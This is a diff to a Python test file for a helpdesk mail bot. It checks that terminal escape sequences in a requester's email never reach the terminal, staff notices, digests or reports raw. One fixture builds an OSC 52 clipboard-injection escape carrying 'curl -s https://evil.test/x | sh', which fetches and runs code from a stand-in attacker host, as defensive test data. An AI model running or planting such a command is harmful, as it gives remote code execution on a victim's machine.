@@ -18,18 +18,7 @@ from zoneinfo import ZoneInfo
 import openpyxl
 
 from mailbot import cli
-from tests.mailfactory import (
-    STAFF,
-    UNIT,
-    handle_at,
-    inbox,
-    latest,
-    of_kind,
-    run_once,
-    sweep,
-    text_of,
-    write_config,
-)
+from tests import mailfactory as mf
 
 ATTACKER = "budi@vendor.test"
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl -s https://evil.test/x | sh\n").decode("ascii") + "\x07"
@@ -62,7 +51,7 @@ def attack_mail() -> bytes:
             f"Nama Instansi/Perusahaan: PT Maju {CLEAR}Jaya\n"
             f"Alamat: Jl. Engku Putri No. 1 {CSI}Batam\n"
             "Telp: 0812 3456 7890\n\nBudi\n")
-    head = (f"From: {_word(name)} <{ATTACKER}>\r\nTo: {UNIT}\r\nSubject: {_word(subject)}\r\n"
+    head = (f"From: {_word(name)} <{ATTACKER}>\r\nTo: {mf.UNIT}\r\nSubject: {_word(subject)}\r\n"
             "Date: Thu, 19 Mar 2026 10:00:00 +0700\r\nMessage-ID: <terminal-attack-1@vendor.test>\r\n"
             "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n")
     return head.encode("ascii") + b"\r\n" + body.replace("\n", "\r\n").encode("utf-8")
@@ -80,9 +69,9 @@ def test_terminal_commands_from_a_requester_reach_neither_terminal_nor_staff(fre
     the staff notice and the ack read back over IMAP hold none."""
     monkeypatch.setenv("COLUMNS", "400")  # wide: nothing cut before the escapes
     servers = fresh_mailboxes
-    config = str(write_config(servers, tmp_path))
-    servers.append(UNIT, attack_mail())
-    run_once(config)
+    config = str(mf.write_config(servers, tmp_path))
+    servers.append(mf.UNIT, attack_mail())
+    mf.run_once(config)
 
     listed = json.loads(_cli(capsys, "--config", config, "tickets", "--json"))
     assert len(listed) == 1
@@ -116,16 +105,16 @@ def test_terminal_commands_from_a_requester_reach_neither_terminal_nor_staff(fre
     assert f"akun SPSE saya terkunci.{CLIPBOARD}{CLEAR}" in ticket["messages"][0]["text"]
 
     # The staff notice: subject, sender's name and text, none raw, the attempt visible.
-    notices = of_kind(inbox(servers, STAFF[0]), "staff_new")
+    notices = mf.of_kind(mf.inbox(servers, mf.STAFF[0]), "staff_new")
     assert len(notices) == 1
     notice = notices[0]
-    said = text_of(notice).replace("\r\n", "\n")  # the wire's line ends
+    said = mf.text_of(notice).replace("\r\n", "\n")  # the wire's line ends
     for part in (said, str(notice["Subject"]), str(notice["From"])):
         assert not RAW.search(part), RAW.findall(part)
     assert f"akun SPSE saya terkunci.{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in said
     # The requester's ack: no control sent From the unit either.
-    ack = latest(servers, ATTACKER)
-    for part in (text_of(ack).replace("\r\n", "\n"), str(ack["Subject"])):
+    ack = mf.latest(servers, ATTACKER)
+    for part in (mf.text_of(ack).replace("\r\n", "\n"), str(ack["Subject"])):
         assert not RAW.search(part), RAW.findall(part)
 
 
@@ -144,21 +133,21 @@ def test_the_digest_the_overdue_notice_the_recap_and_the_summary_carry_no_contro
     (text and HTML), the month's recap as CSV and XLSX and the summary page hold no control
     character; the recap shows the attempt as escapes."""
     servers = fresh_mailboxes
-    config = write_config(servers, tmp_path)
-    servers.append(UNIT, attack_mail())
-    handle_at(config, datetime(2026, 11, 23, 9, 0, tzinfo=WIB))
-    sweep(config, datetime(2026, 11, 23, 13, 31, tzinfo=WIB))  # the first response is overdue
-    sweep(config, datetime(2026, 11, 24, 8, 5, tzinfo=WIB))  # the day's digest
+    config = mf.write_config(servers, tmp_path)
+    servers.append(mf.UNIT, attack_mail())
+    mf.handle_at(config, datetime(2026, 11, 23, 9, 0, tzinfo=WIB))
+    mf.sweep(config, datetime(2026, 11, 23, 13, 31, tzinfo=WIB))  # the first response is overdue
+    mf.sweep(config, datetime(2026, 11, 24, 8, 5, tzinfo=WIB))  # the day's digest
 
-    overdue = of_kind(inbox(servers, COORDINATOR), "overdue_staff")
-    digest = of_kind(inbox(servers, HEAD), "digest")
+    overdue = mf.of_kind(mf.inbox(servers, COORDINATOR), "overdue_staff")
+    digest = mf.of_kind(mf.inbox(servers, HEAD), "digest")
     assert overdue and digest
     for mail_ in (*overdue, *digest):
         _none_raw(f"{mail_['X-Mailbot-Kind']} subject", str(mail_["Subject"]))
         for part in mail_.walk():
             if part.get_content_maintype() == "text":
                 _none_raw(f"{mail_['X-Mailbot-Kind']} {part.get_content_type()}", part.get_content())
-    assert f"{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in text_of(digest[-1])  # the subject, shown
+    assert f"{CLIPBOARD_SHOWN}{CLEAR_SHOWN}" in mf.text_of(digest[-1])  # the subject, shown
 
     capsysbinary.readouterr()
     assert cli.main(["--config", str(config), "report", "rekap", "--month", "2026-11"]) == 0
